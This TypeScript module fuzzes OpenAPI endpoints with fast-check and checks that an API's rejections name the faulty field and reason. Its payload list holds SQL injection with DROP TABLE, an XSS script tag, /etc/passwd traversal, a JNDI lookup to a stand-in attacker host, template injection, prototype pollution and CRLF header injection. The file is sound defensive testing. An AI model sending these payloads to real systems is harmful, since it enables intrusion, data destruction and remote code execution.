import fc from 'fast-check';

/** The parts of an OpenAPI 3 document the fuzzer reads. */
export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

interface OpenApiOperation {
  parameters?: { name: string; in: 'path' | 'query' | 'header'; required?: boolean }[];
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
}

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
}

export interface Operation {
  method: string;
  /** `/api/v1/cases/{departmentCode}/{caseId}` */
  path: string;
  pathParams: string[];
  queryParams: string[];
  bodySchema: JsonSchema | null;
}

export interface FuzzRequest {
  path: string;
  /** JSON to send, or raw text (malformed on purpose), or nothing. */
  body?: { json: unknown } | { raw: string };
  contentType: string;
  /** Replace the credentials with this (hostile) token. */
  token?: string;
}

export function operationsOf(doc: OpenApiDocument): Operation[] {
  return Object.entries(doc.paths).flatMap(([path, operations]) =>
    Object.entries(operations).map(([method, op]) => ({
      method: method.toUpperCase(),
      path,
      pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
      queryParams: (op.parameters ?? []).filter((p) => p.in === 'query').map((p) => p.name),
      bodySchema: resolve(doc, op.requestBody?.content?.['application/json']?.schema) ?? null,
    })),
  );
}

/** A body schema given as `{ $ref: '#/components/schemas/X' }` (the event contract is) is read from the components. */
function resolve(doc: OpenApiDocument, schema: (JsonSchema & { $ref?: string }) | undefined): JsonSchema | undefined {
  const name = schema?.$ref?.replace('#/components/schemas/', '');
  return name ? doc.components?.schemas?.[name] : schema;
}

/** Strings an attacker or a broken client sends: injections, traversal, odd unicode, control characters, sizes. */
const INJECTIONS = [
  "' OR '1'='1' --",
  '1; DROP TABLE audit_log; --',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\u202Eevil',
  '😀👨‍👩‍👧',
  '行政审批',
  ' ',
  '',
  '\r\nSet-Cookie: x=1',
  'null',
  '-1',
  '1e309',
  'NaN',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 65, max: 300_000 }).map((n) => 'x'.repeat(n)) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.constantFrom(0, -1, 2 ** 53 + 1, 1e308, -0, 0.5),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(hostileString, fc.constantFrom('__proto__', 'constructor')), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A value the schema would likely accept, as the base of a single mutation. */
function plausible(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 4) return fc.constant('x');
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const props = schema.properties ?? {};
      const required = new Set(schema.required ?? []);
      return fc.record(
        Object.fromEntries(Object.entries(props).map(([name, sub]) => [name, plausible(sub, depth + 1)])),
        { requiredKeys: Object.keys(props).filter((name) => required.has(name)) },
      );
    }
    case 'array':
      return fc.array(plausible(schema.items, depth + 1), { maxLength: 3 });
    case 'integer':
      return fc.integer({ min: schema.minimum ?? 0, max: schema.maximum ?? 1000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? 0, max: schema.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'string':
      if (schema.format === 'date-time') return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
      if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern)).map((s) => s.slice(0, schema.maxLength ?? 64));
      return fc.string({ minLength: 1, maxLength: Math.min(schema.maxLength ?? 20, 20) });
    default:
      return fc.constant('x');
  }
}

/** A plausible body with one thing wrong: a field of the wrong kind, a missing field, an extra field. */
function mutated(schema: JsonSchema): fc.Arbitrary<unknown> {
  const names = Object.keys(schema.properties ?? {});
  return plausible(schema).chain((base) => {
    if (typeof base !== 'object' || base === null || Array.isArray(base) || names.length === 0) return fc.constant(base);
    const record = base as Record<string, unknown>;
    return fc.oneof(
      fc.tuple(fc.constantFrom(...names), hostileValue).map(([name, value]) => ({ ...record, [name]: value })),
      fc.constantFrom(...names).map((name) => Object.fromEntries(Object.entries(record).filter(([key]) => key !== name))),
      fc.tuple(hostileString, hostileValue).map(([name, value]) => ({ ...record, [name || 'extra']: value })),
    );
  });
}

const RAW_BODIES = ['{', '[1,', 'nul', '{"a":1}{"b":2}', '\u0000', '[' .repeat(20_000) + ']'.repeat(20_000), '{"__proto__":{"isAdmin":true}}', '"\\ud800"', '{"a":"\\u0000"}'];

/** encodeURIComponent refuses lone surrogates; a real client would send U+FFFD for them. */
const encodeSegment = (value: string): string => encodeURIComponent(value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'));

export function requestFor(op: Operation): fc.Arbitrary<FuzzRequest> {
  const segment = fc.oneof({ weight: 2, arbitrary: fc.constantFrom('R1', 'SCJG', 'SCJG-001', '2026', 'x1') }, { weight: 3, arbitrary: hostileString });
  const params = fc.tuple(...op.pathParams.map(() => segment));
  const query = fc.dictionary(fc.oneof(fc.constantFrom(...(op.queryParams.length ? op.queryParams : ['q'])), hostileString), hostileString, { maxKeys: 3 });
  const hasBody = op.method !== 'GET' && op.method !== 'DELETE';
  const body: fc.Arbitrary<FuzzRequest['body']> = !hasBody
    ? fc.constant(undefined)
    : fc.oneof(
        { weight: 4, arbitrary: (op.bodySchema ? mutated(op.bodySchema) : hostileValue).map((json) => ({ json })) },
        { weight: 2, arbitrary: hostileValue.map((json) => ({ json })) },
        { weight: 1, arbitrary: fc.constantFrom(...RAW_BODIES).map((raw) => ({ raw })) },
        { weight: 1, arbitrary: fc.constant(undefined) },
      );
  const contentType = fc.oneof(
    { weight: 8, arbitrary: fc.constant('application/json') },
    { weight: 1, arbitrary: fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=latin1') },
  );
  const token = fc.oneof(
    { weight: 9, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.oneof(fc.constantFrom('', 'lmk_', 'lmd_x', 'a.b.c', 'Bearer'), fc.string({ unit: 'binary-ascii', maxLength: 5000 }).map((s) => s.replace(/[\r\n\0]/g, ''))) },
  );
  return fc.record({ params, query, body, contentType, token }).map(({ params: values, query: q, body: b, contentType: ct, token: tk }) => {
    let path = op.path;
    op.pathParams.forEach((name, i) => (path = path.replace(`{${name}}`, encodeSegment(values[i]))));
    const search = new URLSearchParams(Object.entries(q)).toString();
    return { path: search ? `${path}?${search}` : path, body: b, contentType: ct, token: tk };
  });
}

/** Every rejection must say which field and why: `errors: [{ path, message }]`, both non-empty. */
export function problemWith(status: number, body: unknown): string | null {
  if (status >= 500) return `answered ${status}`;
  if (status < 400) return null;
  const errors = (body as { errors?: unknown } | null)?.errors;
  if (!Array.isArray(errors) || errors.length === 0) return `${status} without errors[]`;
  for (const entry of errors as { path?: unknown; message?: unknown }[]) {
    if (typeof entry?.path !== 'string' || entry.path === '' || typeof entry.message !== 'string' || entry.message === '') {
      return `${status} with an error that names no field or no reason: ${JSON.stringify(entry)}`;
    }
  }
  if ((body as { statusCode?: unknown }).statusCode !== status) return `${status} whose body says statusCode ${String((body as { statusCode?: unknown }).statusCode)}`;
  return null;
}
